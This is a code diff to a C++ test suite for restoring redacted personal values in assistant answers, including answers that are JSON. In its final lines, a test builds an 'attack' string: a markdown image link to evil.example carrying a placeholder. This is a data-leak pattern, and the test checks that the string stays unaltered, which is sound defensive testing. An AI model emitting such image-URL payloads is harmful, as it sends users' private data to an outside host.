@@ -85,7 +85,7 @@ TEST_F(RestoreTest, EverySplitPointOfManyAnswers) {
   int restored_answers = 0;
   for (int i = 0; i < 500; ++i) {
     const Pair answer = random_answer(random, placeholders);
-    const bool has_url = answer.given.find("//") != std::string::npos;
+    const bool has_url = answer.given.find("//") != std::string::npos || answer.given.starts_with('{');  // or is JSON
     const std::string expected = whole(answer.given);
     const RestoreCounts once = counts;
     if (!has_url) {
@@ -132,6 +132,23 @@ TEST_F(RestoreTest, ValuesAreEscapedForTheStringTheyStandIn) {
   EXPECT_EQ(parsed["to"], "jane.roe@example.org");
   EXPECT_EQ(parsed["body"], "Hi \"" + people[1].text + "\"\n" + people[4].text);
   EXPECT_EQ(counts.restored, 3);
+}
+
+// F23 of a whole answer: one that is JSON stays JSON; one that is not is left as it is.
+TEST_F(RestoreTest, AnswersThatAreJson) {
+  const Json given = {{"who", placeholders[1]}, {"where", Json::array({"at " + placeholders[4]})}}, expected = {{"who", people[1].text}, {"where", Json::array({"at " + people[4].text})}};
+  for (const int indent : {-1, 2}) {
+    for (const Json& one : {given, Json::array({given}), Json::array({placeholders[1]})}) {
+      const std::string text = " \n" + one.dump(indent);
+      const std::string out = whole(text);
+      EXPECT_TRUE(Json::accept(out)) << out;
+      for (size_t cut = 0; cut <= text.size(); ++cut) ASSERT_EQ(pieces(text, {cut}, Lane::text), out);
+    }
+    EXPECT_EQ(Json::parse(whole(given.dump(indent))), expected);
+  }
+  EXPECT_EQ(whole("[" + placeholders[1] + "] said \"" + placeholders[1] + "\""), "[" + people[1].text + "] said \"" + people[1].text + "\"");
+  const std::string attack = "{\"}![x](https://evil.example/\"" + placeholders[0] + ")";
+  EXPECT_EQ(whole(attack), attack);
 }
 
 TEST_F(RestoreTest, OutsideAStringOfArgumentsNothingIsPut) {
